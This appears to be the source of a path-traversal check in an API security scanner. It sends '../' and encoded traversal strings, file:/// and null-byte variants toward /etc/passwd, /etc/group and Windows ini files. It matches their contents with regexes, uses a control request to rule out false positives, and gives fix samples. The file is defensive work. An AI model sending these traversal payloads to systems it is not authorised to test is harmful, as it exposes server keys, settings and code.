"""Path traversal: a value names a file outside of the folder that is meant."""

import re
from collections.abc import Callable, Iterator
from typing import Final, TypeAlias
from urllib.parse import quote

import msgspec

from garrison.assess.assessment import Assessment
from garrison.assess.check import Check, Disturbs
from garrison.assess.checks.injection.bases import Place
from garrison.assess.checks.injection.bench import Bench, bench_of
from garrison.assess.checks.injection.views import only
from garrison.assess.probe import Exchange
from garrison.assess.target import Target
from garrison.core.detection import Severity
from garrison.core.finding import CheckId, Finding
from garrison.exposure.types.rule import words

_FILES: Final = frozenset(
    {"file", "filename", "filepath", "path", "dir", "folder", "document", "doc", "page", "template", "image", "img",
     "avatar", "photo", "picture", "attachment", "download", "report", "export", "log", "logs", "asset", "static",
     "include", "load", "read", "view", "lang", "locale", "theme", "style", "key", "resource", "src", "name", "files"}
)  # fmt: skip
_UP: Final = "../" * 8
_KNOWN: Final = (
    ("etc/passwd", re.compile(r"root:[^:\n]{0,200}:0:0:")),
    ("etc/group", re.compile(r"root:[^:\n]{0,200}:0:")),
)
"""Files that every system of the kind has, and what stands in them."""
_WINDOWS: Final = (
    ("windows/win.ini", re.compile(r"\[(fonts|extensions|mci extensions)\]", re.IGNORECASE)),
    ("windows/system.ini", re.compile(r"\[(386enh|drivers)\]", re.IGNORECASE)),
)
Way: TypeAlias = Callable[[str], str]
Files: TypeAlias = tuple[tuple[str, re.Pattern[str]], ...]
_WAYS: Final[tuple[Way, ...]] = (
    lambda path: _UP + path,
    lambda path: "/" + path,
    lambda path: "....//" * 8 + path,
    lambda path: (_UP + path).replace("../", "..%2f"),
    lambda path: (_UP + path).replace("../", "%2e%2e%2f"),
    lambda path: "file:///" + path,
    lambda path: _UP + path + "%00",
)
"""How the path is written, the plainest first: some filters take `../` out once, or decode once more."""


def each(a: Assessment, target: Target) -> Iterator[Finding]:
    """Look at one operation."""
    bench = bench_of(a, target)
    if bench is None or not bench.is_reached:
        return
    for place in bench.places:
        if place.slot.where == "header":
            continue
        proof = _sought(bench, place)
        if proof:
            bench.prove(place, CHECK.id)
            says = f"`{place.slot.text}` names any file of the server, and the answer shows what stands in it"
            yield a.found(CHECK, proof, says=says, target=target, slot=place.slot)


def _sought(bench: Bench, place: Place) -> tuple[Exchange, ...]:
    likely = _is_file(bench, place)
    for way in _WAYS if likely else _WAYS[:1] if place.is_text else ():
        for raw in (False, True) if place.slot.where == "path" and likely else (False,):
            proof = _proof(bench, place, way, _KNOWN, raw=raw)
            if proof:
                return proof
    return _proof(bench, place, lambda path: (_UP + path).replace("/", "\\"), _WINDOWS, raw=False) if likely else ()


def _is_file(bench: Bench, place: Place) -> bool:
    """Whether the place, the path before it or its value speaks of files."""
    steps = {word for step in bench.target.described.path.split("/") for word in words(step)}
    named = not _FILES.isdisjoint(place.said - {"name"}) or not (_FILES - {"name", "key"}).isdisjoint(steps)
    return named or re.fullmatch(r".*\.[a-z]{2,4}", place.value) is not None


def _proof(bench: Bench, place: Place, way: Way, files: Files, *, raw: bool) -> tuple[Exchange, ...]:
    found: list[Exchange] = []
    for path, content in files:
        sent = _send(bench, place, way(path), f"the answer shows `/{path}` of the server", raw=raw)
        shown = content.search(sent.answer.text)
        if shown is None:
            return ()
        found.append(only(sent, f"...{shown[0]}..."))
    control = _send(bench, place, way("etc/grsn"), "a file that is not there: nothing is shown", raw=raw)
    if any(content.search(control.answer.text) for _, content in files):
        return ()
    return (found[0], control)


def _send(bench: Bench, place: Place, value: str, says: str, *, raw: bool) -> Exchange:
    """In a path with slashes as they are, where `raw` says so."""
    request = place.request.put(place.slot, value)
    if raw:
        path = request.template
        for name, each in request.path.items():
            path = path.replace("{" + name + "}", value if name == place.slot.name else quote(each, safe=""))
        request = msgspec.structs.replace(request, raw_path=path)
    return bench.ask(request, place.slot, says)


CHECK: Final = Check(
    id=CheckId("path-traversal"),
    title="a value names any file of the server",
    family="injection",
    severity=Severity.HIGH,
    tags=("owasp.api8", "cwe.22"),
    looks=(
        "Paths that lead out of the folder are sent, plain and in the encodings that filters overlook. It is a finding "
        "where two files that every system has are shown, and one that is not there is not."
    ),
    why="Every file that the server may read can be read: its settings, keys and code.",
    mend="Resolve the path and check that it still lies inside the folder; better, look files up by an id in a list.",
    samples={
        "fastapi": "path = (FOLDER / name).resolve()\nif not path.is_relative_to(FOLDER): raise HTTPException(404)",
        "django": "path = safe_join(FOLDER, name)",
        "flask": "send_from_directory(FOLDER, name)",
    },
    each=each,
    most=60,
    disturbs=Disturbs.OBJECTS,
)
